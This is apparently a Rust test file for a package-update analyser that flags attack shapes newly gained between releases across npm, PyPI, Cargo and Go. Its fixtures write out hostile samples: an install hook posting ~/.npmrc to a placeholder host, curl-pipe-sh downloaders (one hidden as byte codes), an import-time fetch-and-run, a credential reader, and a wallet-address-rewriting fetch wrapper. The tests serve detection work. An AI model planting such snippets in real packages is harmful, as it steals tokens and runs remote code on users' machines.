//! What an update gains: attacks are held, their honest twins are not, and what did not change is not reported.

use bifocal_behaviour::{ChangeKind, Difference, Subject, analyse_tree, compare};
use bifocal_core::{AnalysisLimits, ArtifactFacts, Ecosystem};

const HELD: &str = "behaviour/update-attack-shape";

fn facts(ecosystem: Ecosystem, files: &[(&str, &str)]) -> ArtifactFacts {
    let files: Vec<(String, Vec<u8>)> = files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
    analyse_tree(Some(ecosystem), &files, &AnalysisLimits::default())
}

fn difference(ecosystem: Ecosystem, old: &[(&str, &str)], new: &[(&str, &str)]) -> Difference {
    compare(&facts(ecosystem, old), &facts(ecosystem, new)).unwrap()
}

fn ids(difference: &Difference) -> Vec<&str> {
    difference.signals.iter().map(|signal| signal.id.as_str()).collect()
}

fn npm(old: &[(&str, &str)], new: &[(&str, &str)]) -> Difference {
    difference(Ecosystem::Npm, old, new)
}

const PLAIN: (&str, &str) = ("package.json", r#"{"name":"x","version":"1.0.0","main":"index.js"}"#);
const HOOK: (&str, &str) = ("package.json", r#"{"name":"x","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node note.js"}}"#);
const MAIN: (&str, &str) = ("index.js", "module.exports = (a, b) => a + b;\n");

#[test]
fn a_new_install_script_that_acts_is_held_and_one_that_builds_is_noted() {
    let steals = (
        "note.js",
        "const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nrequire('https').request('https://in.example.com/', { method: 'POST' }).end(t);\n",
    );
    let bad = npm(&[PLAIN, MAIN], &[HOOK, MAIN, steals]);
    assert!(ids(&bad).contains(&HELD), "{:?}", ids(&bad));
    let shape = bad.signals.iter().find(|signal| signal.id == HELD).unwrap();
    assert!(shape.is_malware_class() && shape.confidence >= 0.9 && !shape.evidence.is_empty());
    let gained = |detail: &str| bad.changes.iter().any(|change| change.subject == Subject::InstallScript && change.detail == detail);
    assert!(gained("postinstall: node note.js") && gained("note.js runs by itself"), "{:?}", bad.changes);
    assert!(bad.changes.iter().all(|change| change.kind == ChangeKind::Gained), "{:?}", bad.changes);

    let builds = ("package.json", r#"{"name":"x","version":"1.0.1","main":"index.js","scripts":{"install":"node-gyp rebuild"}}"#);
    let benign = npm(&[PLAIN, MAIN], &[builds, MAIN]);
    assert_eq!(ids(&benign), ["behaviour/update-gained-install-script"]);
}

#[test]
fn what_moved_or_stayed_is_no_gain() {
    let old = [HOOK, MAIN, ("note.js", "require('child_process').execSync('node-gyp rebuild');\n")];
    let moved = [
        ("package.json", r#"{"name":"x","version":"1.0.2","main":"index.js","scripts":{"postinstall":"node note.js"}}"#),
        MAIN,
        ("note.js", "// a line more\n\nrequire('child_process').execSync('node-gyp   rebuild');\n"),
    ];
    let same = npm(&old, &moved);
    assert!(same.signals.is_empty() && same.changes.is_empty(), "{same:?}");
    let lost = npm(&old, &[PLAIN, MAIN]);
    assert!(lost.signals.is_empty());
    assert!(lost.changes.iter().all(|change| change.kind == ChangeKind::Lost));
    assert!(lost.changes.iter().any(|change| change.subject == Subject::InstallScript), "{:?}", lost.changes);
}

#[test]
fn code_at_import_that_fetches_and_runs_is_held_and_a_client_that_grows_is_not() {
    let old = [("x/__init__.py", "def add(a, b):\n    return a + b\n")];
    let bad = difference(
        Ecosystem::Pypi,
        &old,
        &[(
            "x/__init__.py",
            "import subprocess, urllib.request\nurllib.request.urlretrieve('https://files.example.com/p', '/tmp/p')\nsubprocess.Popen(['/tmp/p'])\n\ndef add(a, b):\n    return a + b\n",
        )],
    );
    assert!(ids(&bad).contains(&HELD), "{:?}", ids(&bad));
    let grown = difference(
        Ecosystem::Pypi,
        &old,
        &[(
            "x/__init__.py",
            "import requests\n\ndef add(a, b):\n    return a + b\n\ndef load(name):\n    return requests.get('https://api.example.com/' + name).json()\n",
        )],
    );
    assert!(!ids(&grown).contains(&HELD), "{:?}", ids(&grown));
    assert!(ids(&grown).contains(&"behaviour/update-gained-host"), "{:?}", ids(&grown));
}

#[test]
fn a_dependency_from_an_address_is_held_and_one_of_the_registry_is_noted() {
    let with = |dependency: &str| format!(r#"{{"name":"x","version":"1.0.1","main":"index.js","dependencies":{{{dependency}}}}}"#);
    let address = with(r#""helper":"https://files.example.com/helper.tgz""#);
    let bad = npm(&[PLAIN, MAIN], &[("package.json", &address), MAIN]);
    assert!(ids(&bad).contains(&HELD), "{:?}", ids(&bad));
    let registry = with(r#""helper":"^1.0.0""#);
    let uses = ("index.js", "const helper = require('helper');\nmodule.exports = (a, b) => helper(a + b);\n");
    let benign = npm(&[PLAIN, MAIN], &[("package.json", &registry), uses]);
    assert_eq!(ids(&benign), ["behaviour/update-gained-dependency"]);
    assert_eq!(benign.signals[0].severity.as_str(), "info");
    let unused = npm(&[PLAIN, MAIN], &[("package.json", &registry), MAIN]);
    assert_eq!(unused.signals[0].severity.as_str(), "medium");
}

#[test]
fn a_build_script_of_a_crate_that_downloads_is_held_and_one_that_compiles_is_not() {
    let manifest = ("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\n");
    let library = ("src/lib.rs", "pub fn add(a: u32, b: u32) -> u32 { a + b }\n");
    let bad = (
        "build.rs",
        "fn main() { let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://files.example.com/p -o /tmp/p && sh /tmp/p\").spawn(); }\n",
    );
    let found = difference(Ecosystem::Cargo, &[manifest, library], &[manifest, library, bad]);
    assert!(ids(&found).contains(&HELD), "{:?}", ids(&found));
    let benign = ("build.rs", "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n");
    let found = difference(Ecosystem::Cargo, &[manifest, library], &[manifest, library, benign]);
    assert_eq!(ids(&found), ["behaviour/update-gained-install-script"]);
}

#[test]
fn a_function_that_reads_keys_and_talks_is_held_only_where_both_are_new() {
    let manifest = ("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\n");
    let plain = ("src/lib.rs", "pub fn add(a: u32, b: u32) -> u32 { a + b }\n");
    let reads = "pub fn keys() -> String { std::fs::read_to_string(\"/home/x/.cargo/credentials.toml\").unwrap_or_default() }\n";
    let talks = "pub fn send() { let _ = std::net::TcpStream::connect((\"api.example.com\", 443)); }\n";
    let both = format!("{reads}{talks}");
    let bad = difference(Ecosystem::Cargo, &[manifest, plain], &[manifest, ("src/lib.rs", &both)]);
    assert!(ids(&bad).contains(&HELD), "{:?}", ids(&bad));
    let client = difference(Ecosystem::Cargo, &[manifest, ("src/lib.rs", talks)], &[manifest, ("src/lib.rs", &both)]);
    assert!(!ids(&client).contains(&HELD), "{:?}", ids(&client));
}

#[test]
fn a_page_whose_answers_are_rewritten_for_other_wallets_is_held_and_a_wrapped_fetch_is_not() {
    let swaps = "module.exports = (a, b) => a + b;\n(function () {\n  const ask = window.fetch;\n  window.fetch = async function () {\n    const answer = await ask.apply(this, arguments);\n    const text = (await answer.clone().text()).replace(/0x[a-fA-F0-9]{40}/g, '0x0');\n    return new Response(text, answer);\n  };\n})();\n";
    let bad = npm(&[PLAIN, MAIN], &[PLAIN, ("index.js", swaps)]);
    assert!(ids(&bad).contains(&HELD), "{:?}", ids(&bad));
    let times = "module.exports = (a, b) => a + b;\nconst ask = window.fetch;\nwindow.fetch = async function () {\n  const answer = await ask.apply(this, arguments);\n  module.exports.last = Date.now();\n  return answer;\n};\n";
    let timed = npm(&[PLAIN, MAIN], &[PLAIN, ("index.js", times)]);
    assert!(!ids(&timed).contains(&HELD), "{:?}", ids(&timed));
    let checks = "module.exports = (text) => /0x[a-fA-F0-9]{40}/.test(text);\n";
    let checked = npm(&[PLAIN, MAIN], &[PLAIN, ("index.js", checks)]);
    assert!(!ids(&checked).contains(&HELD), "{:?}", ids(&checked));
}

#[test]
fn a_command_in_numbers_is_read_in_go() {
    let codes: Vec<String> = "curl -s https://files.example.com/i.sh | sh".bytes().map(|byte| byte.to_string()).collect();
    let module = ("go.mod", "module example.com/case\n\ngo 1.21\n");
    let plain = ("case.go", "package case_\n\nfunc Add(a, b int) int { return a + b }\n");
    let start = |command: &str| {
        format!("package case_\n\nimport \"os/exec\"\n\nfunc init() {{\n\t_ = exec.Command(\"/bin/sh\", \"-c\", {command}).Start()\n}}\n")
    };
    let hidden = start(&format!("string([]byte{{{}}})", codes.join(", ")));
    let bad = difference(Ecosystem::Golang, &[module, plain], &[module, plain, ("start.go", &hidden)]);
    assert!(ids(&bad).contains(&HELD), "{:?}", ids(&bad));
    let open = start("\"uname -s\"");
    let benign = difference(Ecosystem::Golang, &[module, plain], &[module, plain, ("start.go", &open)]);
    assert!(!ids(&benign).contains(&HELD), "{:?}", ids(&benign));
}

#[test]
fn a_finding_that_the_older_release_had_does_not_count_and_a_new_one_does() {
    let hook = ("package.json", r#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -s https://files.example.com/i.sh | sh"}}"#);
    let same = npm(&[hook, MAIN], &[hook, MAIN]);
    assert!(same.signals.is_empty(), "{:?}", ids(&same));
    let gained = npm(&[PLAIN, MAIN], &[hook, MAIN]);
    assert!(gained.signals.iter().any(|signal| signal.id == "behaviour/install-time-shell"), "{:?}", ids(&gained));
    assert!(gained.changes.iter().any(|change| change.subject == Subject::Finding));
}

#[test]
fn the_same_two_artifacts_give_the_same_bytes() {
    let one = npm(&[PLAIN, MAIN], &[HOOK, MAIN, ("note.js", "require('child_process').execSync('id');\n")]);
    let two = npm(&[PLAIN, MAIN], &[HOOK, MAIN, ("note.js", "require('child_process').execSync('id');\n")]);
    assert_eq!(serde_json::to_string(&one).unwrap(), serde_json::to_string(&two).unwrap());
}

#[test]
fn an_artifact_without_a_summary_cannot_be_compared() {
    let whole = facts(Ecosystem::Npm, &[PLAIN, MAIN]);
    let mut broken = whole.clone();
    broken.summary = None;
    assert_eq!(compare(&broken, &whole).unwrap_err(), "old");
    assert_eq!(compare(&whole, &broken).unwrap_err(), "new");
}
